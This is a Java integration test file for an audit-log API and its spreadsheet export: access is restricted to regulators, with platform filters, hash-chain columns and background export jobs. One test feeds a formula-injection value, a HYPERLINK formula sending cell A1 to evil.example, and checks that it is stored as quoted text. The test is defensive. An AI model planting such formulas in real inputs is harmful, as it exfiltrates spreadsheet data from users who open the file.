package io.carefile.audit;

import static io.carefile.support.SubmittedReturns.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import io.carefile.export.Exports;
import io.carefile.support.SubmittedReturns;
import io.carefile.support.TestPlatforms;
import io.carefile.support.TestPlatforms.TestPlatform;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * The audit events as a list and a spreadsheet (GET /api/v1/audit/events): regulators only, the
 * list's filters, each event with its chain link, and a large export through the background job.
 */
@QuarkusTest
class AuditLogExportTest {

  private static final String ANALYST = "regulator-analyst";
  private static final Duration PATIENCE = Duration.ofSeconds(60);

  @Test
  void aRegulatorExportsASubmissionsEventWithItsSequenceAndHashes() throws Exception {
    TestPlatform platform = TestPlatforms.newPlatform();
    String filing = SubmittedReturns.csamQ(platform);
    JsonPath event = awaitChained(submitted(as(ANALYST), filing));

    Response answer = spreadsheet(submitted(as(ANALYST), filing));

    answer.then().statusCode(200).contentType(Exports.SPREADSHEET);
    try (XSSFWorkbook book = workbook(answer)) {
      XSSFSheet data = book.getSheet("Audit log");
      List<String> header = new ArrayList<>();
      data.getRow(0).forEach(cell -> header.add(cell.getStringCellValue()));
      assertThat(header)
          .containsExactly(
              "Sequence",
              "Occurred at",
              "Actor",
              "Action",
              "Entity type",
              "Entity id",
              "Platform id",
              "Event id",
              "State digest",
              "Previous hash",
              "Hash");
      assertThat(data.getPaneInformation().isFreezePane()).isTrue();
      assertThat(data.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:K2");
      assertThat(data.getLastRowNum()).isEqualTo(1);
      XSSFRow row = data.getRow(1);
      assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat((long) row.getCell(0).getNumericCellValue())
          .isEqualTo(event.getLong("items[0].sequence"));
      assertThat(DateUtil.isCellDateFormatted(row.getCell(1))).isTrue();
      assertThat(row.getCell(2).getStringCellValue()).startsWith(platform.attestor());
      assertThat(row.getCell(3).getStringCellValue()).isEqualTo("filing.submitted");
      assertThat(row.getCell(4).getStringCellValue()).isEqualTo("Filing");
      assertThat(row.getCell(5).getStringCellValue()).isEqualTo(filing);
      assertThat(row.getCell(6).getStringCellValue()).isEqualTo(platform.platformId());
      assertThat(row.getCell(7).getStringCellValue()).isEqualTo(event.getString("items[0].id"));
      assertThat(row.getCell(8).getStringCellValue())
          .isEqualTo(event.getString("items[0].stateDigest"))
          .hasSize(64);
      assertThat(row.getCell(9).getStringCellValue())
          .isEqualTo(event.getString("items[0].previousHash"));
      assertThat(row.getCell(10).getStringCellValue())
          .isEqualTo(event.getString("items[0].hash"))
          .hasSize(64);
    }
  }

  @Test
  void aPlatformIsRefusedTheListAndItsSpreadsheetAlike() {
    TestPlatform platform = TestPlatforms.newPlatform();
    for (RequestSpecification caller : List.of(as(platform.officer()), as(platform.attestor()))) {
      caller
          .get("/api/v1/audit/events")
          .then()
          .statusCode(403)
          .contentType("application/problem+json");
    }
    for (RequestSpecification caller : List.of(as(platform.officer()), as(platform.attestor()))) {
      spreadsheet(caller).then().statusCode(403).contentType("application/problem+json");
    }
  }

  @Test
  void aRegulatorsPlatformFilterHoldsThatPlatformsEventsAloneWrittenInTheBackground()
      throws Exception {
    TestPlatform platform = TestPlatforms.newPlatform();
    TestPlatform other = TestPlatforms.newPlatform();
    SubmittedReturns.csamQ(platform);
    SubmittedReturns.csamQ(other);
    RequestSpecification filtered = as(ANALYST).queryParam("platformId", platform.platformId());
    int total =
        filtered.get("/api/v1/audit/events").then().statusCode(200).extract().path("totalItems");
    assertThat(total).as("more than two rows, so written in the background").isGreaterThan(2);

    Response queued = spreadsheet(as(ANALYST).queryParam("platformId", platform.platformId()));

    queued.then().statusCode(202).body("rowsTotal", equalTo(total));
    JsonPath done = awaitDone(queued.header("Location"));
    Response file = as(ANALYST).accept(Exports.SPREADSHEET).get(done.getString("download"));
    try (XSSFWorkbook book = workbook(file)) {
      XSSFSheet data = book.getSheet("Audit log");
      assertThat(data.getLastRowNum()).isEqualTo(total);
      List<String> platforms = new ArrayList<>();
      List<Instant> occurred = new ArrayList<>();
      for (int i = 1; i <= data.getLastRowNum(); i++) {
        platforms.add(data.getRow(i).getCell(6).getStringCellValue());
        occurred.add(
            data.getRow(i)
                .getCell(1)
                .getLocalDateTimeCellValue()
                .atZone(java.time.ZoneId.of("Europe/London"))
                .toInstant());
      }
      assertThat(platforms).containsOnly(platform.platformId());
      assertThat(occurred).as("newest first").isSortedAccordingTo((a, b) -> b.compareTo(a));
    }
  }

  @Test
  void aFilterLookingLikeAFormulaIsListedAsTextAndAnOverLongOneIsRefused() throws IOException {
    String hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")";

    Response answer = spreadsheet(as(ANALYST).queryParam("entityId", hostile));

    answer.then().statusCode(200);
    try (XSSFWorkbook book = workbook(answer)) {
      assertThat(book.getSheet("Audit log").getLastRowNum()).as("the header alone").isZero();
      XSSFSheet about = book.getSheetAt(0);
      assertThat(about.getRow(6).getCell(0).getStringCellValue()).isEqualTo("entityId");
      XSSFCell value = about.getRow(6).getCell(1);
      assertThat(value.getCellType()).isEqualTo(CellType.STRING);
      assertThat(value.getStringCellValue()).isEqualTo(hostile);
      assertThat(value.getCellStyle().getQuotePrefixed()).isTrue();
    }
    for (String accept : List.of(Exports.SPREADSHEET, "application/json")) {
      as(ANALYST)
          .queryParam("action", "a".repeat(65))
          .accept(accept)
          .get("/api/v1/audit/events")
          .then()
          .statusCode(400)
          .body("type", equalTo("urn:carefile:problem:invalid-request"));
    }
  }

  private static RequestSpecification submitted(RequestSpecification request, String filing) {
    return request
        .queryParam("entityType", "Filing")
        .queryParam("entityId", filing)
        .queryParam("action", "filing.submitted");
  }

  private static Response spreadsheet(RequestSpecification request) {
    return request.accept(Exports.SPREADSHEET).get("/api/v1/audit/events");
  }

  private static XSSFWorkbook workbook(Response answer) throws IOException {
    return new XSSFWorkbook(new ByteArrayInputStream(answer.asByteArray()));
  }

  /** The list of one event, once the sequencer has chained it (a moment after its commit). */
  private static JsonPath awaitChained(RequestSpecification list) throws InterruptedException {
    long deadline = System.nanoTime() + PATIENCE.toNanos();
    while (System.nanoTime() < deadline) {
      JsonPath now = list.get("/api/v1/audit/events").then().statusCode(200).extract().jsonPath();
      assertThat(now.getInt("totalItems")).isEqualTo(1);
      if (now.get("items[0].sequence") != null) {
        return now;
      }
      Thread.sleep(200);
    }
    throw new AssertionError("The event was not chained");
  }

  private static JsonPath awaitDone(String status) throws InterruptedException {
    long deadline = System.nanoTime() + PATIENCE.toNanos();
    while (System.nanoTime() < deadline) {
      JsonPath now = as(ANALYST).get(status).then().statusCode(200).extract().jsonPath();
      if (now.getString("state").equals("DONE")) {
        return now;
      }
      assertThat(now.getString("state")).isIn("QUEUED", "RUNNING");
      Thread.sleep(200);
    }
    throw new AssertionError("The export " + status + " was not written");
  }
}
